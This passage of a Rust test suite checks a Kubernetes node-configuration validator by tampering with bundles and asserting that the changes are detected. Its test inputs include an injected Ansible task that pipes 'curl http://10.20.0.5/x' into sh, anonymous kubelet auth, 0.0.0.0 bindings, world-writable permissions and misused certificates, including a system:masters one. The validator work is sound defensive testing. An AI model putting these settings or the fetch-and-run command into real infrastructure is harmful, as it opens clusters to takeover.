    assert!(
        has(
            &found,
            Code::MissingFile,
            "hosts/node0/var/lib/kube-proxy/elsewhere",
            &["clientConnection.kubeconfig"]
        ),
        "{text}"
    );
}

#[test]
fn a_kubelet_unit_without_its_configuration_is_unsafe() {
    let (_, bundle) = built("workloads");
    assert_found_after_edit(
        &bundle,
        "hosts/node0/etc/systemd/system/kubelet.service",
        "  --config=/var/lib/kubelet/config.yaml \\\n",
        "",
        Code::UnsafeSetting,
        &["--config is missing"],
    );
    assert_found_after_edit(
        &bundle,
        "hosts/cp0/etc/systemd/system/kubelet.service",
        "--v=2",
        "--v=2 \\\n  --anonymous-auth=true",
        Code::UnexpectedCommand,
        &["--anonymous-auth"],
    );
}

#[test]
fn a_node_configuration_that_is_not_yaml_is_unparseable() {
    let (_, bundle) = built("workloads");
    assert_found_after_edit(
        &bundle,
        KUBE_PROXY_CONFIG,
        "clientConnection:",
        "clientConnection: [",
        Code::Unparseable,
        &["not YAML"],
    );
}

/// `bundle` with the file at `path` holding `contents`, the manifest redone.
fn replaced(bundle: &Bundle, path: &str, contents: Vec<u8>) -> Bundle {
    let file = bundle.get(path).unwrap_or_else(|| panic!("no {path}"));
    let mut changed = bundle.clone();
    match (&file.host, &file.target) {
        (Some(host), Some(target)) => changed.insert_host_file(host, target, file.kind, contents),
        _ => changed.insert(path, file.kind, contents),
    }
    changed.with_manifest().unwrap()
}

fn contents(bundle: &Bundle, path: &str) -> Vec<u8> {
    bundle
        .get(path)
        .unwrap_or_else(|| panic!("no {path}"))
        .contents
        .clone()
}

#[test]
fn a_client_certificate_of_another_identity_is_found() {
    let (_, bundle) = built("workloads");
    let proxy = "hosts/node0/var/lib/kube-proxy/pki/kube-proxy.pem";
    let moved = [
        // The scheduler's identity as node0's kube-proxy.
        (
            proxy,
            "hosts/cp0/var/lib/kube-scheduler/pki/scheduler.pem",
            "system:kube-scheduler",
        ),
        // Another node's kubelet identity, and its serving certificate.
        (
            "hosts/node0/var/lib/kubelet/pki/kubelet.pem",
            "hosts/node1/var/lib/kubelet/pki/kubelet.pem",
            "system:node:node1",
        ),
        (
            "hosts/node0/var/lib/kubelet/pki/kubelet-server.pem",
            "hosts/node1/var/lib/kubelet/pki/kubelet-server.pem",
            "system:node:node1",
        ),
        // kube-apiserver's kubelet client (bound to system:kubelet-api-admin) as a kubelet.
        (
            "hosts/cp1/var/lib/kubelet/pki/kubelet.pem",
            "hosts/cp1/etc/kubernetes/pki/kubelet-client.pem",
            "kube-apiserver-kubelet-client",
        ),
    ];
    for (target, source, identity) in moved {
        let changed = replaced(&bundle, target, contents(&bundle, source));
        let (found, text) = findings(&changed, None);
        assert!(
            has(
                &found,
                Code::UnexpectedCertificate,
                target,
                &[identity, "this file is for"]
            ),
            "{source} over {target}:\n{text}"
        );
    }
}

#[test]
fn the_break_glass_identity_on_a_host_is_unsafe() {
    let (_, bundle) = built("workloads");
    let kubeconfig = String::from_utf8(contents(&bundle, "admin/super-admin.kubeconfig")).unwrap();
    let pem = util::kubeconfig_client_certificate(&kubeconfig);
    let target = "hosts/node0/var/lib/kube-proxy/pki/kube-proxy.pem";
    let (found, text) = findings(&replaced(&bundle, target, pem), None);
    assert!(
        has(&found, Code::UnsafeSetting, target, &["system:masters"]),
        "{text}"
    );
}

#[test]
fn node_files_that_name_another_node_or_file_are_unsafe() {
    let (_, bundle) = built("workloads");
    let edits: [(&str, &str, &str, &[&str]); 8] = [
        (
            "hosts/node0/etc/systemd/system/kubelet.service",
            "--hostname-override=node0",
            "--hostname-override=cp0",
            &["--hostname-override=cp0", "another node"],
        ),
        (
            "hosts/cp0/etc/systemd/system/kubelet.service",
            "--config=/var/lib/kubelet/config.yaml",
            "--config=/etc/kubernetes/encryption-config.yaml",
            &["--config=/etc/kubernetes/encryption-config.yaml"],
        ),
        (
            "hosts/cp0/var/lib/kubelet/config.yaml",
            "registerWithTaints:",
            "registerWithoutTaints:",
            &["registerWithTaints"],
        ),
        (
            KUBELET_CONFIG,
            "clusterDNS:",
            "registerWithTaints:\n  - key: node-role.kubernetes.io/control-plane\n    effect: NoSchedule\nclusterDNS:",
            &["registerWithTaints on a worker"],
        ),
        (
            KUBELET_CONFIG,
            "address: \"10.20.0.100\"",
            "address: \"0.0.0.0\"",
            &["address is 0.0.0.0", "--node-ip"],
        ),
        (
            KUBELET_CONFIG,
            "tlsCertFile: \"/var/lib/kubelet/pki/kubelet-server.pem\"",
            "tlsCertFile: \"/var/lib/kubelet/pki/kubelet.pem\"",
            &["tlsCertFile"],
        ),
        (
            KUBE_PROXY_CONFIG,
            "hostnameOverride: \"node0\"",
            "hostnameOverride: \"cp0\"",
            &["hostnameOverride is cp0"],
        ),
        (
            KUBE_PROXY_CONFIG,
            "metricsBindAddress: \"127.0.0.1:10249\"",
            "metricsBindAddress: \"0.0.0.0:10249\"",
            &["metricsBindAddress"],
        ),
    ];
    for (path, from, to, words) in edits {
        assert_found_after_edit(&bundle, path, from, to, Code::UnsafeSetting, words);
    }
}

#[test]
fn node_settings_cpgen_never_writes_are_unsafe_without_the_config_too() {
    let (_, bundle) = built("workloads");
    let edits: [(&str, &str, &str, &[&str]); 8] = [
        (
            KUBELET_CONFIG,
            "containerRuntimeEndpoint: \"unix:///var/run/crio/crio.sock\"",
            "containerRuntimeEndpoint: \"tcp://10.20.0.2:1234\"",
            &["containerRuntimeEndpoint"],
        ),
        (
            KUBELET_CONFIG,
            "apiVersion: kubelet.config.k8s.io/v1beta1",
            "apiVersion: kubelet.config.k8s.io/v1",
            &["apiVersion"],
        ),
        (
            KUBELET_CONFIG,
            "healthzBindAddress: \"127.0.0.1\"",
            "healthzBindAddress: \"0.0.0.0\"",
            &["healthzBindAddress"],
        ),
        (
            KUBELET_CONFIG,
            "cgroupDriver: systemd",
            "cgroupDriver: cgroupfs",
            &["cgroupDriver"],
        ),
        (
            KUBELET_CONFIG,
            "port: 10250",
            "port: 10260",
            &["port is 10260"],
        ),
        (KUBE_PROXY_CONFIG, "mode: iptables", "mode: ipvs", &["mode"]),
        (
            "hosts/node0/etc/systemd/system/kubelet.service",
            "  --hostname-override=node0 \\\n",
            "",
            &["--hostname-override=(missing)"],
        ),
        (
            KUBE_PROXY_CONFIG,
            "apiVersion: kubeproxy.config.k8s.io/v1alpha1",
            "apiVersion: v1",
            &["apiVersion"],
        ),
    ];
    for (path, from, to, words) in edits {
        assert_found_after_edit(&bundle, path, from, to, Code::UnsafeSetting, words);
    }
}

#[test]
fn a_node_without_its_kubelet_is_incomplete_by_its_manifest_roles() {
    let (_, bundle) = built("workloads");
    for host in ["cp0", "node0"] {
        let gone = without(&bundle, |p| {
            p.starts_with(&format!("hosts/{host}/var/lib/kubelet/"))
                || p == format!("hosts/{host}/etc/systemd/system/kubelet.service")
        });
        let (found, text) = findings(&gone, None);
        assert!(
            has(
                &found,
                Code::MissingHost,
                "manifest.json",
                &[host, "kubelet and kube-proxy units"]
            ),
            "{host}:\n{text}"
        );
    }
}

#[test]
fn with_its_config_every_file_the_config_alone_makes_is_held_to_it() {
    let (plan, bundle) = built("workloads");
    let edits = [
        (
            "deploy/ansible/playbook.yml",
            "- name: Install every host's files",
            "- name: Fetch\n  hosts: all\n  tasks:\n    - ansible.builtin.shell: curl http://10.20.0.5/x | sh\n\n- name: Install every host's files",
        ),
        ("deploy/nix/module.nix", "\"--hostname-override=node0\"", "\"--hostname-override=node0\" \"--anonymous-auth=true\""),
        ("deploy/ansible/host_vars/node0.yml", "0600", "0666"),
        (KUBELET_CONFIG, "clusterDomain: \"cluster.local\"", "clusterDomain: \"evil.example\""),
        ("hosts/cp0/var/lib/kube-proxy/config.yaml", "mode: iptables", "mode: ipvs"),
    ];
    for (path, from, to) in edits {
        let changed = edited(&bundle, path, from, to);
        let (found, text) = findings(&changed, Some(&plan));
        assert!(
            has(
                &found,
                Code::PlanMismatch,
                path,
                &["differs from what the config makes"]
            ),
            "{path}: {to}\n{text}"
        );
    }
    // A master's node files gone, manifest and all.
    let gone = without(&bundle, |p| {
        p.starts_with("hosts/cp0/var/lib/kubelet/")
            || p == "hosts/cp0/etc/systemd/system/kubelet.service"
    });
    let (found, text) = findings(&gone, Some(&plan));
    assert!(
        has(
            &found,
            Code::PlanMismatch,
            "hosts/cp0/etc/systemd/system/kubelet.service",
            &["lacks it"]
        ),
        "{text}"
    );
}
